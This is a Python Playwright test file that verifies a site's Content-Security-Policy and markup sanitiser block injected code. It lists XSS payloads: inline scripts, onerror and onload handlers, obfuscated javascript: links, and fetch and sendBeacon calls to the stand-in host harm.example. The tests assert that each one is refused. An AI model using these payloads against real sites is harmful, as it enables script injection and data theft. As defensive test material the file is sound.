"""What a page refuses to do, whoever asks it: the Content-Security-Policy as a browser keeps it."""

from __future__ import annotations

import pytest
from playwright.sync_api import Page, Route, expect

from tests.browser.conftest import Watch
from tests.browser.reader import Reader

VIOLATIONS = """
    window.violations = [];
    addEventListener("securitypolicyviolation", (event) => violations.push(event.effectiveDirective));
"""
INJECTED = {
    "a script as text": (
        "const script = document.createElement('script');"
        "script.textContent = 'window.harmed = true'; document.body.append(script);",
        "requires 'TrustedScript'",
    ),
    "a script from another host": (
        "const script = document.createElement('script');"
        "script.setAttribute('src', 'https://harm.example/x.js'); document.body.append(script);",
        "not our own",
    ),
    "an event handler": (
        "const image = document.createElement('img');"
        "image.setAttribute('onerror', 'window.harmed = true'); image.setAttribute('src', '/none.png');"
        "document.body.append(image);",
        "requires 'TrustedScript'",
    ),
    "text as code": ("setTimeout('window.harmed = true')", "requires 'TrustedScript'"),
    "an address that is code": ("document.body.appendChild(Object.assign(document.createElement('a'), "
                                "{ href: 'javascript:window.harmed = true' })).click()", "script-src"),
    "a frame": ("document.body.append(Object.assign(document.createElement('iframe'), "
                "{ src: 'https://harm.example/' }))", "frame-src"),
    "a picture from another host": ("new Image().src = 'https://harm.example/x.png'", "img-src"),
    "a request to another host": ("fetch('https://harm.example/').catch(() => {})", "connect-src"),
    "a beacon": ("navigator.sendBeacon('https://harm.example/', 'x')", "connect-src"),
    "a form": ("const form = document.createElement('form'); form.action = '/'; document.body.append(form);"
               "form.submit()", "form-action"),
    "another base": ("document.head.append(Object.assign(document.createElement('base'), "
                     "{ href: 'https://harm.example/' }))", "base-uri"),
    "styles": ("const style = document.createElement('style'); style.append('body { color: red }');"
               "document.head.append(style)", "style-src"),
}  # fmt: skip
"""What code on a page might try, and what stops it: a part of the policy, or the words of the error."""
MARKUP = [
    "<script>window.harmed = true</script>",
    "<img src=x onerror='window.harmed = true'>",
    '<a href="javascript:window.harmed = true">x</a>',
    '<a href="java&#10;script:window.harmed = true">x</a>',
    '<a href="&#106;avascript:window.harmed = true">x</a>',
    '<a href="data:text/html,x">x</a>',
    '<svg><a xlink:href="javascript:window.harmed = true">x</a></svg>',
    '<button formaction="javascript:window.harmed = true">x</button>',
    '<iframe srcdoc="<p>x</p>"></iframe>',
    '<p style="position: fixed">x</p>',
    '<svg/onload="window.harmed = true">',
    "<p",
    '<x\u00a0a="1 onclick=window.harmed=true y">x</x>',
    '<p\u00a0a="1 onclick=window.harmed=true y">x</p>',
    '<p\u2003class="x">x</p>',
    "<p\u000b>x</p>",
    "<body onload=1>",
    '<animate attributeName="href" values="javascript:window.harmed=true">',
    '<meta http-equiv="refresh" content="0">',
    '<still-in-time data-engine-url="https://harm.example/">',
    '<p id="__config">x</p>',
    '<a name="body">x</a>',
    '<img src="/x.png">',
    '<a href="//harm.example/">x</a>',
    '<a href="/\\harm.example/">x</a>',
    '<a href="/.//harm.example/">x</a>',
    '<a href="/%2e%2e/">x</a>',
    '<a href="https://harm.example/">x</a>',
    '<a href="http://127.0.0.1.harm.example/">x</a>',
]
"""What nobody may write into a page, though the theme writes its search results as markup."""


@pytest.mark.parametrize("harm", INJECTED)
def test_what_is_injected_does_not_run(bystander: Reader, watch: Watch, harm: str) -> None:
    """Nothing runs, loads or is sent that the policy does not name."""
    watch.expect("")
    code, stopped_by = INJECTED[harm]
    failures = []
    bystander.page.on("requestfailed", lambda request: failures.append((request.url, request.failure)))
    bystander.page.add_init_script(VIOLATIONS)
    bystander.open()
    bystander.page.evaluate(f"() => {{ try {{ {code} }} catch (error) {{ window.thrown = String(error); }} }}")
    bystander.page.wait_for_function("() => violations.length || window.thrown")
    assert stopped_by in bystander.page.evaluate("() => `${violations} ${window.thrown}`")
    assert bystander.page.evaluate("() => window.harmed") is None
    assert all((url, "csp") in failures for url in watch.foreign), "a request left the browser"
    watch.foreign.clear()


def test_a_script_that_somebody_put_into_the_file_does_not_run(bystander: Reader, watch: Watch) -> None:
    """A script in the page's own HTML runs only if the build has put it there."""
    watch.expect("Content Security Policy")
    bystander.page.add_init_script(VIOLATIONS)

    def infect(route: Route) -> None:
        response = route.fetch()
        text = response.text().replace("</body>", "<script>window.harmed = true</script></body>")
        route.fulfill(response=response, body=text)

    bystander.page.route("**/check/", infect)
    bystander.open()
    bystander.page.wait_for_function("() => violations.length")
    assert "script-src" in bystander.page.evaluate("() => violations.join()")
    assert bystander.page.evaluate("() => window.harmed") is None


def test_markup_that_could_do_anything_is_refused(bystander: Reader, watch: Watch) -> None:
    """The way that the theme's search uses lets no markup through that does more than show words and link pages."""
    watch.expect("")
    bystander.open()
    put = """(all) => all.filter((markup) => {
        try {
            document.createElement("div").innerHTML = markup;
            return true;
        } catch (error) {
            return !error.message.includes("nobody may write");
        }
    })"""
    assert bystander.page.evaluate(put, MARKUP) == []


def test_markup_that_shows_words_is_let_through(bystander: Reader) -> None:
    """What the theme writes for a result, a link on this site with marked words, is no harm."""
    bystander.open()
    for address in ("/steps/#x", f"{bystander.home}/steps/", f"{bystander.home}/es/check/stage.asked/", "#x", "/"):
        markup = f'<a href="{address}" class="link" tabindex="-1"><mark data-md-highlight>Money</mark> &lt;back&gt;</a>'
        put = "(markup) => { const box = document.createElement('p'); box.innerHTML = markup; return box.innerText; }"
        assert bystander.page.evaluate(put, markup) == "Money <back>"


def test_the_search_works_under_the_policy(someone: Reader) -> None:
    """The theme finds and shows results with nothing but what the policy allows."""
    someone.page.set_viewport_size({"width": 1280, "height": 800})
    someone.open(page="")
    word = {"en": "refund", "es": "reembolso"}[someone.locale.lang]
    someone.page.locator(".md-search__input").press_sequentially(word)
    results = someone.page.locator(".md-search-result__item")
    expect(results.first).to_be_visible(timeout=30_000)
    expect(results.locator("mark").first).to_be_visible()


def test_the_page_says_what_the_server_says(someone: Reader, page: Page) -> None:
    """The policy stands in the page as in the header, so it holds on hosts that send no headers."""
    answer = page.goto(f"{someone.home}{someone.locale.root}")
    assert answer
    header = answer.headers["content-security-policy"]
    meta = page.locator('meta[http-equiv="Content-Security-Policy"]').get_attribute("content")
    assert meta and header.startswith(meta)
    assert "default-src 'none'" in meta and "frame-ancestors" in header
    assert answer.headers["referrer-policy"] == "no-referrer"
